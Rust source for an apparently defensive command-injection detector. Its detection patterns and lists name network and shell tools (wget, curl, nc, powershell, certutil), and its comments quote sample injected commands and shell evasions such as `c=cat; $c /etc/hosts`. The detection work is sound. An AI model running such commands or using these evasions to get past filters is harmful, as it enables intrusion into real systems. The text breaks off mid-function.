//! OS command injection (Unix and Windows shells) and server-side code that spawns commands.
//!
//! A shell reads a command where a *separator* (`;`, `|`, `&&`, newline, backquote, `$(`) or the
//! start of the value puts one. So the rule is a separator followed by a command name and an
//! argument shape (`-x`, `/path`, `$VAR`, redirection), or by a command that is dangerous with any
//! argument (`wget`, `nc`, `whoami`, `powershell`). Shell evasions are undone first: quotes and
//! backslashes inside words (`c'a't`, `c\at`), empty expansions (`$@`, `${x}`, `$u`, `; $a cat`)
//! and `$IFS`; a command name split by quoting (`'c'url`, `who$()ami`), spelled by an ANSI-C
//! string (`$'\143at'`) or a substring expansion (`${HOME:0:1}`), or glued to its separator
//! against the spacing of prose (`x ;top`) counts on its own. Commands run through a wrapper
//! (`nohup`, `strace`, `sudo`) or from a variable assigned earlier (`c=cat; $c /etc/hosts`),
//! wildcard paths (`/???/c?t`), redirections into system paths and `!cmd` shell escapes count too. Batch `FOR ... IN (...) DO` / `IF ... EQU`
//! blocks, reverse shells, Shellshock (a value that *starts* with `() {`), Windows administration
//! tools with any argument (`&wevtutil cl system`), scripts sourced by `.` (`; . /tmp/x.sh`), and
//! Node.js / Ruby / Perl code that reaches a shell or the file system (`require('child_process')`,
//! `process.mainModule`, `fs.unlinkSync(`, `while(true)`, `Process.spawn(`, node-serialize
//! markers, also base64-wrapped) are matched directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
//! command-like words, but not in that shape.

use super::gate::{call_follows, gated, in_sorted, is_word, lit, lower, skip_space, starts_word, word_at};
use super::{in_markdown_code, is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger};
use crate::swar;
use crate::fields::{Field, Part, ValueType};
use crate::finding::Severity::{Critical, High, Medium};
use std::borrow::Cow;

pub(crate) struct Cmdi {
    rules: Rules,
    /// A value that opens with one of [`MORE_CMDLETS`] and then a parameter, a pipe, a quoted or
/// variable or path argument, or nothing (judged with its spelling as it arrived).
    leading_cmdlet: regex::Regex,
    /// JavaScript, a command opening a line, batch conditionals, and values that are an automation
    /// tool's command line: an injection outside a JSON text field, where code samples, logs, documents
    /// and job definitions do not travel.
    strict_rules: Rules,
}

/// Plain JavaScript syntax (`function(){`, `module.exports =`, `console.log(`, `process.env`,
/// `new Function(`, `require('fs')`, `process.exit(`, `vm.runInNewContext(`, `this.constructor`),
/// Node's file system and process calls (`fs.readFileSync(`, `createReadStream(`,
/// `spawn('sh')`) and the endless loops that stall its one thread (`while(true)`,
/// `while(!0)`, `for(;;)`): server-side code injection in a URL, header or form, but what a code snippet
/// in a JSON text field (a gist, a support ticket) is made of, so only Medium there. What reaches
/// the runtime or a shell (`child_process`, `process.mainModule`, `constructor.constructor`) is
/// High anywhere.
const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)|\b(?:(?:read|write|append|copy)file|unlink|symlink|link|l?ch(?:mod|own)|rm|rmdir|mkdir|mkdtemp|rename|f?truncate|[lf]?stat|open|opendir|readlink|readdir|realpath|exists|access|[lf]?utimes|f?datasync|fsync|close|cp|readv|writev)sync\s*\(|\bcreate(?:read|write)stream\s*\(|\b(?:un)?watchfile\s*\(|\bfs\s*\.\s*(?:promises\s*\.\s*)?[a-z]+\s*\(|\b(?:child_process|cp)\s*\.\s*(?:spawn|fork|exec|execfile)\s*\(|\b(?:spawn|fork)\s*\(\s*['`\x22]|\bconstructor\s*\[|\bbinding\s*\[|\bwhile\s*\(\s*(?:!+\s*(?:false|0|null|undefined|nan|\x22\x22|''|``)|(?:!!)*\s*(?:true|[1-9]\d*|infinity|\[\]|\{\}|\x22[^\x22]+\x22|'[^']+'|this|window))\s*\)|\bfor\s*\(\s*;\s*;\s*\)\s*(?:[{;]|$)";

/// Ruby that runs a command or code (`Process.spawn(`, `Kernel.exec`, `IO.popen(`,
/// `Open3.capture2(`, `%x(id)`, `instance_eval(`, a command method sent by name
/// (`Kernel.send(:system, ...)`, `const_get(:IO)`): server-side code injection in a URL, header or
/// form, a snippet in a JSON text field.
const RUBY_CODE: &str = r"\bprocess\s*\.\s*(?:spawn|fork|exec|daemon)\b|\bkernel\s*\.\s*(?:exec|system|spawn|fork|open|eval|syscall|`)|\bio\s*\.\s*popen\s*\(|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline[a-z_]*)\b|\b(?:instance|class|module)_eval\s*\(|(?:^|[^a-z0-9%])%x\s*[({\[|!]|\b(?:__send__|public_send|send)\s*\(\s*:(?:system|exec|spawn|fork|eval|instance_eval|class_eval|module_eval|syscall|popen|open|load|require)\b|\bconst_get\s*\(\s*[:'\x22]\s*(?:kernel|io|process|open3|file|object)\b";

/// Windows administration tools whose names are no word of prose, and those whose names are
/// words with a subcommand that is not (`sc create`, `route print`): after a separator any
/// argument, or none, makes them a command line. A regex.
const WINDOWS_ADMIN: &str = "runas|setspn|extrac32|sc\\s+(?:create|config|stop|delete|qc|sdset|failure)|route\\s+(?:print|add|delete|change)|netsh|wevtutil|vssadmin|icacls|cacls|bcdedit|bcdboot|schtasks|wmic|certutil|bitsadmin|klist|nltest|dsquery|fsutil|diskpart|takeown|cmdkey|attrib|tasklist|taskkill|systeminfo|regsvr32|rundll32|mshta|wbadmin|esentutl|ntdsutil|qprocess|quser|qwinsta|winrm|winrs|dnscmd|auditpol|gpresult|nbtstat|driverquery|sc\\.exe";

/// Commands that are an attack after a separator when an argument shape follows, together with
/// [`TOOLS`] (see [`strong_commands`]). The Windows administration tools among them (`icacls`,
/// `vssadmin`, `wevtutil`, ...) are no word of English or of any other program.
const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip(?:\s+(?:a|addr|address|r|route|link|neigh|n))?|ps(?:\s+-?(?:aux|axu|ef|elf|ax))?|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";

/// More programs, Unix and Windows, whose names are no word of prose (`bzcat`, `sshpass`,
/// `sysctl`, `findstr`, `mklink`, `auditpol`, PowerShell's aliases `gci`, `saps`, `ipmo`): after a separator with an argument shape they are a
/// command line like any of [`STRONG`]. Sorted; also gate words.
const TOOLS: &[&str] = &[
    "7zr", "7zx", "adduser", "agetty", "appcmd", "aptitude", "arj", "ascii-xfr", "ascii85", "asnp", "aspell",
    "assoc", "atobm", "auditpol", "aws", "basenc", "bdehdcfg", "bginfo", "bootcfg", "bpftrace", "bsdcat", "bsdtar",
    "bundler", "busctl", "byebug", "bzcat", "bzcmp", "bzdiff", "bzegrep", "bzfgrep", "bzgrep", "bzless", "bzmore",
    "bzz", "certbot", "chcp", "check_by_ssh", "check_cups", "check_log", "check_memory", "check_raid",
    "check_ssl_cert", "check_statusfile", "chflags", "chgrp", "chkdsk", "choom", "chsh", "clang", "clc", "cleanmgr",
    "clhy", "clp", "cls", "clv", "cmdl32", "cmp", "cnsn", "cobc", "comm", "composer", "conhost", "coproc", "cowsay",
    "cowthink", "cpan", "cpanm", "cpi", "csc", "csplit", "csvde", "csvtool", "cupsfilter", "cvpa", "dbp", "defrag",
    "deno", "dhclient", "diskcopy", "diskshadow", "dmidecode", "dmsetup", "dnsn", "dosbox", "doskey", "dsacls",
    "dsadd", "dsget", "dsmod", "dsrm", "dvips", "easy_install", "ebp", "efax", "egrep", "epal", "epcsv", "epsn",
    "eqn", "esh", "etsn", "eventcreate", "eventvwr", "exiftool", "exsn", "extrac32", "facter", "fgrep", "fhx",
    "findstr", "fmt", "fping", "ftpwho", "ftype", "gawk", "gcb", "gci", "gcloud", "gcm", "gcore", "gcs", "gem",
    "genisoimage", "getfacl", "getmac", "ghc", "ghci", "ghy", "gimp", "ginsh", "gjb", "gpg", "gpg2", "gpupdate",
    "gpv", "grc", "groovy", "groupdel", "gsn", "gsnp", "gsv", "gtester", "gtz", "gwmi", "gzcat", "gzexe", "helm",
    "hh", "htdigest", "htpasswd", "icm", "iconv", "iftop", "ihy", "iisreset", "ionice", "ip6tables", "ipal",
    "ipcsv", "ipmo", "ipsn", "ise", "ispell", "iwmi", "jexec", "jjs", "jsc", "jshell", "klist", "knife", "ksetup",
    "ksshell", "ktpass", "lastcomm", "lastlog", "ldconfig", "ldifde", "lessecho", "lesspipe", "lftp", "lftpget",
    "lodctr", "loginctl", "logman", "logsave", "lshw", "lualatex", "luatex", "lwp-download", "lwp-dump",
    "lwp-mirror", "lwp-request", "lz4", "lzcat", "lzless", "lzma", "mailq", "mailx", "manage-bde", "mawk", "mklink",
    "mknod", "mlocate", "mmc", "mosquitto", "mountvol", "msgattrib", "msgcat", "msgconv", "msgfilter", "msgmerge",
    "msguniq", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow", "nal", "nasm",
    "nawk", "ndr", "neofetch", "netdom", "nmo", "nodejs", "nping", "npssc", "nroff", "nsn", "nstat", "ntbackup",
    "octave", "ogv", "openfiles", "openvpn", "openvt", "opkg", "osql", "pacman", "pcalua", "pdb", "pdflatex",
    "pdftex", "pdksh", "perfmon", "perl5", "perlsh", "pftp", "pgrep", "php-cgi", "pico", "pidstat", "pigz",
    "pktmon", "popd", "powershell_ise", "pry", "psed", "psftp", "ptar", "ptx", "puppet", "pushd", "pypy",
    "qprocess", "raku", "rbash", "rbp", "rcjb", "rcsn", "rdpsign", "rdr", "redcarpet", "regini", "relog",
    "repadmin", "restic", "rexec", "rjb", "rlwrap", "rmo", "rmuser", "rnano", "rni", "rnp", "rpcping", "rpmdb",
    "rpmquery", "rpmverify", "rsn", "rsnp", "rujb", "run-mailcap", "run-parts", "runas", "rview", "rvim", "rvpa",
    "rwinsta", "rwmi", "sajb", "saps", "sasv", "sbp", "scb", "scriptrunner", "secedit", "setarch", "setfacl",
    "setspn", "sfc", "shcm", "shuf", "sls", "slsh", "soelim", "spjb", "spps", "spsv", "sqlcmd", "ssh-keygen",
    "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "stz", "subst", "sujb", "svn", "swmi", "sxstrace",
    "sysctl", "systemd-resolve", "systemd-run", "tailf", "taskset", "tbl", "tcping", "tcptraceroute", "timedatectl",
    "tpmtool", "traceroute6", "tracerpt", "trcm", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil",
    "unexpand", "unlz4", "unlzma", "unpigz", "unzstd", "update-alternatives", "userdel", "uudecode", "uuencode",
    "valgrind", "vbc", "vigr", "vimdiff", "vipw", "virsh", "volatility", "waitfor", "wdsutil", "wecutil",
    "whiptail", "winnt32", "wireshark", "wjb", "wsl", "xelatex", "xetex", "xmodmap", "xmore", "xpad", "xzcat",
    "xzdec", "xzgrep", "xzless", "yarn", "yelp", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
];

/// The alternation of every command that counts after a separator with an argument shape:
/// [`STRONG`] and [`TOOLS`] (also what the PHP check looks for in `system(...)`).
pub(crate) fn strong_commands() -> String {
    format!("(?:{STRONG}|{})", TOOLS.join("|"))
}

/// Programs whose names are also words of English (`make`, `screen`, `patch`, `tree`, `su`),
/// or short enough to be an abbreviation (PowerShell's `gc`, `ni`, `sl`, `gps`):
/// after a separator they count only with an option, a path or a redirection right after them
/// (`;make -C /tmp`, `&tree c:\ /f`), which prose does not put there.
const WORD_TOOLS: &[&str] = &[
    "ab", "ac", "ar", "arch", "as", "batch", "bridge", "cancel", "cfs", "cipher", "cli", "column", "compress",
    "convert", "cpp", "crash", "dialog", "diff", "ed", "es", "expand", "expect", "fc", "fetch", "finger", "fish",
    "fl", "fold", "ft", "fw", "gal", "gbp", "gc", "gdr", "genie", "gi", "gin", "gl", "gm", "gmo", "go", "gp", "gps",
    "gu", "gv", "hd", "highlight", "history", "ii", "install", "jobs", "join", "ld", "links", "locate", "look",
    "lp", "make", "man", "mi", "move", "mp", "ni", "nl", "nm", "nv", "oh", "paste", "patch", "pax", "pic", "pr",
    "red", "rename", "replace", "rev", "ri", "rp", "rv", "sal", "sash", "screen", "script", "service", "sg", "si",
    "sl", "snap", "sp", "split", "ss", "su", "sv", "task", "tex", "tic", "tree", "ul", "wall", "watch", "yes",
];

/// A value that starts with a configuration-management console or CLI (`ansible-console`,
/// `chef-shell`, `cscli alerts list`).
const AUTOMATION_TOOL: &str = r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:ansible-[a-z]+|chef-[a-z]+|cscli)(?:\s|$)";

/// Whether a value's first word names one of [`AUTOMATION_TOOL`]'s consoles (the wake test).
#[inline]
fn is_automation_tool(word: &[u8]) -> bool {
    if !word.first().is_some_and(|c| matches!(c | 0x20, b'a' | b'c')) {
        return false;
    }
    let starts = |p: &[u8]| word.len() > p.len() && word[..p.len()].eq_ignore_ascii_case(p);
    starts(b"ansible-") || starts(b"chef-") || word.eq_ignore_ascii_case(b"cscli")
}

/// Commands an attacker sends alone as a whole value to see whether it is run (`cmd=whoami`): they
/// print who and where the server is, and no value of an API's own is one of them.
const PROBES: &[&str] = &["ifconfig", "ipconfig", "systeminfo", "uname", "whoami"];

/// Whether a word is one of [`PROBES`] (`.exe` allowed).
fn is_probe(word: &[u8]) -> bool {
    let w = word.strip_suffix(b".exe").or_else(|| word.strip_suffix(b".EXE")).unwrap_or(word);
    PROBES.iter().any(|p| w.eq_ignore_ascii_case(p.as_bytes()))
}

/// PowerShell cmdlets that run code, fetch, or read and change the system. A regex.
const POWERSHELL_CMDLETS: &str = "invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-(?:process|job|bitstransfer)|new-(?:object|service|itemproperty|localuser|scheduledtask(?:action)?)|get-(?:process|childitem|content|item|service|wmiobject|ciminstance|localuser|localgroupmember|aduser|adcomputer|acl|credential|clipboard|itemproperty|nettcpconnection)|set-(?:executionpolicy|mppreference|itemproperty|content|acl)|add-(?:mppreference|type|localgroupmember)|remove-(?:item|itemproperty|mppreference)|out-file|copy-item|move-item|stop-(?:process|service)|register-scheduledtask|convertto-securestring";

/// The rest of PowerShell's own cmdlets (the published CRS list of `Verb-Noun` names, less
/// [`POWERSHELL_CMDLETS`]): after a shell separator or `powershell`, or opening a value in their
/// own capitalized spelling (`Get-Date`, not the slug `get-date`), a PowerShell command line.
/// Sorted; also gate words.
const MORE_CMDLETS: &[&str] = &[
    "add-computer", "add-content", "add-history", "add-jobtrigger", "add-member", "add-pssnapin",
    "checkpoint-computer", "clear-content", "clear-eventlog", "clear-history", "clear-host", "clear-item",
    "clear-itemproperty", "clear-recyclebin", "clear-variable", "compare-object", "compress-archive",
    "connect-pssession", "connect-wsman", "convert-path", "convertfrom-csv", "convertfrom-json",
    "convertfrom-sddlstring", "convertfrom-securestring", "convertfrom-string", "convertfrom-stringdata",
    "convertto-csv", "convertto-html", "convertto-json", "convertto-xml", "copy-itemproperty", "debug-job",
    "debug-process", "debug-runspace", "disable-computerrestore", "disable-localuser", "disable-psbreakpoint",
    "disable-psremoting", "disable-pssessionconfiguration", "disable-scheduledjob", "disable-wsmancredssp",
    "disconnect-pssession", "disconnect-wsman", "enable-computerrestore", "enable-localuser", "enable-psbreakpoint",
    "enable-psremoting", "enable-pssessionconfiguration", "enable-scheduledjob", "enable-wsmancredssp",
    "enter-pshostprocess", "enter-pssession", "exit-pshostprocess", "exit-pssession", "expand-archive",
    "export-alias", "export-clixml", "export-console", "export-counter", "export-csv", "export-formatdata",
    "export-modulemember", "export-pssession", "find-command", "find-module", "find-package", "find-script",
    "foreach-object", "format-custom", "format-hex", "format-list", "format-table", "format-wide", "get-alias",
    "get-authenticodesignature", "get-cimassociatedinstance", "get-cimclass", "get-cimsession", "get-cmsmessage",
    "get-command", "get-computerinfo", "get-computerrestorepoint", "get-counter", "get-culture", "get-date",
    "get-event", "get-eventlog", "get-eventsubscriber", "get-executionpolicy", "get-filehash", "get-formatdata",
    "get-help", "get-history", "get-host", "get-hotfix", "get-installedmodule", "get-itempropertyvalue", "get-job",
    "get-localgroup", "get-location", "get-member", "get-module", "get-package", "get-pfxcertificate",
    "get-psbreakpoint", "get-pscallstack", "get-psdrive", "get-psprovider", "get-psreadlineoption",
    "get-psrepository", "get-pssession", "get-pssessionconfiguration", "get-pssnapin", "get-random", "get-runspace",
    "get-scheduledjob", "get-timezone", "get-tracesource", "get-typedata", "get-unique", "get-uptime",
    "get-variable", "get-winevent", "get-wsmaninstance", "group-object", "import-alias", "import-clixml",
    "import-counter", "import-csv", "import-localizeddata", "import-module", "import-powershelldatafile",
    "import-pssession", "install-module", "install-package", "install-script", "invoke-asworkflow",
    "invoke-cimmethod", "invoke-history", "invoke-wsmanaction", "join-path", "measure-command", "measure-object",
    "move-itemproperty", "new-alias", "new-ciminstance", "new-cimsession", "new-event", "new-eventlog",
    "new-filecatalog", "new-guid", "new-item", "new-jobtrigger", "new-localgroup", "new-module",
    "new-modulemanifest", "new-psdrive", "new-pssession", "new-pssessionconfigurationfile", "new-pssessionoption",
    "new-scheduledjoboption", "new-temporaryfile", "new-timespan", "new-variable", "new-webserviceproxy",
    "new-winevent", "new-wsmaninstance", "out-default", "out-gridview", "out-host", "out-null", "out-printer",
    "out-string", "pop-location", "protect-cmsmessage", "publish-module", "publish-script", "push-location",
    "read-host", "receive-job", "receive-pssession", "register-argumentcompleter", "register-cimindicationevent",
    "register-engineevent", "register-objectevent", "register-psrepository", "register-pssessionconfiguration",
    "register-scheduledjob", "register-wmievent", "remove-alias", "remove-ciminstance", "remove-cimsession",
    "remove-computer", "remove-event", "remove-eventlog", "remove-job", "remove-localgroup",
    "remove-localgroupmember", "remove-localuser", "remove-module", "remove-psdrive", "remove-pssession",
    "remove-pssnapin", "remove-service", "remove-variable", "remove-wmiobject", "rename-computer", "rename-item",
    "rename-itemproperty", "rename-localuser", "reset-computermachinepassword", "resolve-path", "restart-computer",
    "restart-service", "restore-computer", "resume-job", "resume-service", "save-module", "save-script",
    "select-object", "select-string", "select-xml", "send-mailmessage", "set-alias", "set-authenticodesignature",
    "set-ciminstance", "set-clipboard", "set-date", "set-item", "set-localgroup", "set-localuser", "set-location",
    "set-psbreakpoint", "set-psdebug", "set-psreadlineoption", "set-pssessionconfiguration", "set-scheduledjob",
    "set-service", "set-strictmode", "set-timezone", "set-tracesource", "set-variable", "set-wmiinstance",
    "set-wsmaninstance", "set-wsmanquickconfig", "show-command", "show-eventlog", "sort-object", "split-path",
    "start-service", "start-sleep", "start-threadjob", "start-trace", "start-transaction", "start-transcript",
    "stop-computer", "stop-job", "stop-trace", "stop-transcript", "suspend-job", "suspend-service",
    "switch-process", "tee-object", "test-computersecurechannel", "test-connection", "test-filecatalog",
    "test-json", "test-modulemanifest", "test-path", "test-wsman", "trace-command", "unblock-file",
    "undo-transaction", "uninstall-module", "uninstall-package", "uninstall-script", "unprotect-cmsmessage",
    "unregister-event", "unregister-psrepository", "unregister-pssessionconfiguration", "unregister-scheduledjob",
    "update-formatdata", "update-help", "update-module", "update-modulemanifest", "update-script",
    "update-typedata", "use-transaction", "wait-debugger", "wait-event", "wait-job", "wait-process", "where-object",
    "write-debug", "write-error", "write-eventlog", "write-host", "write-information", "write-output",
    "write-progress", "write-verbose", "write-warning",
];

/// Commands that are an attack after a separator whatever their arguments.
const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";

/// Command names for the trigger gates (a superset of [`STRONG`] as plain words). Sorted.
const COMMANDS: &[&str] = &[
    "7z", "7za", "alias", "ansible", "apt", "apt-get", "aria2c", "arp", "arping", "at", "attrib", "awk", "base32",
    "base64", "basename", "bash", "bc", "bcdboot", "bcdedit", "bitsadmin", "bunzip2", "busybox", "bzip2", "c89",
    "c99", "cacls", "call", "capsh", "cat", "cc", "certreq", "certutil", "chattr", "chef", "chmod", "chown",
    "chpasswd", "chroot", "cmd", "cmd.exe", "cmdkey", "cmstp", "copy", "cp", "cpio", "cpulimit", "crontab", "cscli",
    "cscript", "csh", "curl", "cut", "dash", "date", "dd", "del", "df", "dig", "dir", "dirname", "diskpart", "dism",
    "dmesg", "dnf", "dnscmd", "doas", "docker", "dpkg", "driverquery", "dsquery", "du", "echo", "emacs", "env",
    "esentutl", "eval", "ex", "exec", "expect", "export", "file", "find", "flock", "forfiles", "fsutil", "ftp",
    "gcc", "gdb", "getcap", "getent", "git", "gpresult", "grep", "groupadd", "gunzip", "gzip", "head", "hexdump",
    "hostname", "hping3", "icacls", "id", "ieexec", "ifconfig", "insmod", "installutil", "iostat", "ip", "ipconfig",
    "iptables", "irb", "java", "journalctl", "jq", "jrunscript", "kill", "killall", "ksh", "kubectl", "last", "ldd",
    "less", "ll", "ln", "ls", "lsb_release", "lsblk", "lscpu", "lsmod", "lsof", "lspci", "lsusb", "ltrace", "lua",
    "lynx", "mail", "makecab", "masscan", "md5sum", "mkdir", "mkfifo", "mktemp", "modprobe", "mofcomp", "more",
    "mount", "msbuild", "msdt", "msfconsole", "msfvenom", "mshta", "msiexec", "mv", "mysql", "nano", "nbtstat",
    "nc", "ncat", "net", "net1", "netcat", "netsh", "netstat", "nl", "nltest", "nmap", "node", "nohup", "npm",
    "npx", "nsenter", "nslookup", "ntdsutil", "objdump", "od", "odbcconf", "openssl", "passwd", "pathping", "perf",
    "perl", "php", "ping", "pip", "pip3", "pipx", "pkexec", "pkill", "pnputil", "powershell", "powershell.exe",
    "presentationhost", "printenv", "printf", "ps", "psql", "pwd", "pwsh", "python", "python2", "python3", "quser",
    "qwinsta", "rc", "readelf", "readlink", "realpath", "reboot", "reg", "regasm", "regedit", "regsvcs", "regsvr32",
    "renice", "rev", "rlogin", "rm", "rmdir", "rmmod", "rmt", "robocopy", "route", "rpm", "rsh", "rsync", "ruby",
    "rundll32", "runuser", "sc", "schtasks", "scp", "sdbinst", "sed", "sendmail", "set", "setcap", "setsid", "setx",
    "sftp", "sh", "sha1sum", "sha256sum", "shred", "shutdown", "sleep", "smbclient", "socat", "sort", "source",
    "sqlite3", "sqlmap", "ss", "ssh", "start", "stat", "strace", "strings", "sudo", "systemctl", "systeminfo",
    "tac", "tail", "takeown", "tar", "taskkill", "tasklist", "tclsh", "tcpdump", "tcsh", "tee", "telnet", "tftp",
    "time", "timeout", "tmux", "top", "touch", "tr", "traceroute", "tracert", "tshark", "type", "uconv", "uname",
    "uniq", "unrar", "unset", "unshare", "unxz", "unzip", "uptime", "useradd", "usermod", "vi", "vim", "visudo",
    "vmstat", "vssadmin", "w", "w3m", "wbadmin", "wc", "wevtutil", "wget", "whereis", "who", "whoami", "whois",
    "winrm", "winrs", "wish", "wmic", "wscript", "wusa", "xargs", "xcopy", "xterm", "xxd", "xz", "yum", "zcat",
    "zgrep", "zip", "zsh",
];

/// The command word at `i`, read the way a shell would after its evasions are undone: quotes,
/// backslashes and empty expansions (`c'a't`, `c\\at`, `c$@at`) dropped, a leading path
/// (`/usr/bin/`) skipped. Lower-cased into `buf`.
fn command_word<'b>(b: &[u8], mut i: usize, buf: &'b mut [u8; 24]) -> &'b [u8] {
    let mut n = 0;
    let mut read = 0;
    while i < b.len() && read < 48 {
        let c = b[i];
        read += 1;
        match c {
            b'\'' | b'"' | b'\\' | b'^' => i += 1,
            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'!' | b'_' | b'0'..=b'9')) => i += 2,
            b'$' if b.get(i + 1) == Some(&b'{') && b.get(i + 2) == Some(&b'}') => i += 3,
            b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
            b'/' => {
                n = 0; // a path: keep only its last component
                i += 1;
            }
            c if c.is_ascii_alphanumeric() || c == b'_' || c == b'-' || c == b'.' => {
                if n == buf.len() {
                    return &[];
                }
                buf[n] = c.to_ascii_lowercase();
                n += 1;
                i += 1;
            }
            _ => break,
        }
    }
    &buf[..n]
}

/// Whether the word at `i` hides a known command's name behind quotes, backslashes or empty
/// expansions *inside* it (`'c'url`, `w\\hoami`, `wh$@oami`): a shell evasion, which no word of
/// prose is. Names of three letters or more only (`I'd` is no `id`); a word merely quoted whole
/// (`'ls'`) is not an evasion.
fn hides_command(b: &[u8], i: usize) -> bool {
    let (mut k, mut letters_before, mut evasion) = (i, false, false);
    while k < b.len() && k - i < 48 {
        let c = b[k];
        let empty = empty_substitution(b, k);
        if empty > 0 {
            evasion |= letters_before;
            k += empty;
            continue;
        }
        if c <= b' ' || matches!(c, b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`') {
            break;
        }
        // Punctuation no command name holds ends the word: `"aws":"arn` (a JSON document's
        // line) is a quoted key and a value, not `aws` split by quotes.
        if !(c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'^' | b'_' | b'-' | b'.' | b'/' | b'@' | b'*' | b'!' | b'{' | b'}')) {
            break;
        }
        if c.is_ascii_alphanumeric() {
            if evasion {
                let mut buf = [0u8; 24];
                let w = command_word(b, i, &mut buf);
                return w.len() >= 3 && is_command(w);
            }
            letters_before = true;
        } else if matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'^') && letters_before {
            evasion = true;
        }
        k += 1;
    }
    false
}

/// The length of an empty command substitution at `i` (`$()`, two backquotes), which expands
/// to nothing and so splits a command name without changing it (`who$()ami`); 0 if none.
fn empty_substitution(b: &[u8], i: usize) -> usize {
    match (b.get(i), b.get(i + 1), b.get(i + 2)) {
        (Some(b'$'), Some(b'('), Some(b')')) => 3,
        (Some(b'`'), Some(b'`'), _) => 2,
        _ => 0,
    }
}

/// The offset of the first command name hidden by [`hides_command`] where a shell reads a command:
/// at the start of the value or after a separator (`;`, `|`, `&`, a line break, `` ` ``, `$(`).
fn hidden_command(b: &[u8]) -> Option<usize> {
    let starts = std::iter::once(0).chain(b.iter().enumerate().filter(|(_, c)| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'(')).map(|(k, _)| k + 1));
    starts.map(|k| skip_space(b, k)).find(|&k| hides_command(b, k))
}

/// Gate for a shell separator: a known command follows (past spaces, `{`, `(` and quotes).
fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
    let mut i = e;
    let mut sourced = false;
    while i < b.len() && (b[i] <= b' ' || matches!(b[i], b'{' | b'(' | b'!' | b'@') || (b[i] == b'.' && b.get(i + 1) == Some(&b' '))) {
        sourced |= b[i] == b'.';
        i += 1;
    }
    if sourced && matches!(b.get(i), Some(b'/' | b'.' | b'~' | b'$')) {
        return true; // a script sourced by `.` (`; . /tmp/x.sh`)
    }
    if b.get(i) == Some(&b'$') && b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'{') {
        return true; // a variable run as the command (`&& $c $a`)
    }
